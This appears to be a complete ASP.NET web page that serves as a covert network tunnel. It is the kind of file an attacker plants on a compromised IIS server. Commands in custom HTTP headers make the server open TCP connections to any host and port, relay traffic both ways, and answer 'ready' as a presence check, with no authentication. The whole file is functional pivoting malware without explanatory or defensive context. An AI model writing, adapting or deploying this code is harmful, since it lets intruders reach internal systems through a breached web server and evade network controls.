<%@ Page Language="C#" EnableSessionState="True" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    Response.BufferOutput = false;
    string op = Request.Headers["X-Op"];
    if (op == null) { Response.Write("ready"); return; }
    switch (op.ToUpperInvariant())
    {
        case "CONNECT":
        {
            string host = Request.Headers["X-Dst"];
            int port = int.Parse(Request.Headers["X-Dport"]);
            Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            s.Connect(new IPEndPoint(IPAddress.Parse(host), port));
            s.Blocking = false;
            Session["chan"] = s;
            Response.AddHeader("X-Res", "OK");
            break;
        }
        case "DISCONNECT":
        {
            Socket s = Session["chan"] as Socket;
            if (s != null) s.Close();
            Session.Abandon();
            Response.AddHeader("X-Res", "OK");
            break;
        }
        case "FORWARD":
        {
            Socket s = (Socket)Session["chan"];
            byte[] buf = new byte[Request.ContentLength];
            int n = Request.InputStream.Read(buf, 0, buf.Length);
            s.Send(buf, n, SocketFlags.None);
            Response.AddHeader("X-Res", "OK");
            break;
        }
        case "READ":
        {
            Socket s = (Socket)Session["chan"];
            byte[] buf = new byte[8192];
            try
            {
                int n;
                while ((n = s.Receive(buf)) > 0)
                {
                    byte[] part = new byte[n];
                    Buffer.BlockCopy(buf, 0, part, 0, n);
                    Response.BinaryWrite(part);
                }
            }
            catch (SocketException) { }
            Response.AddHeader("X-Res", "OK");
            break;
        }
    }
}
</script>
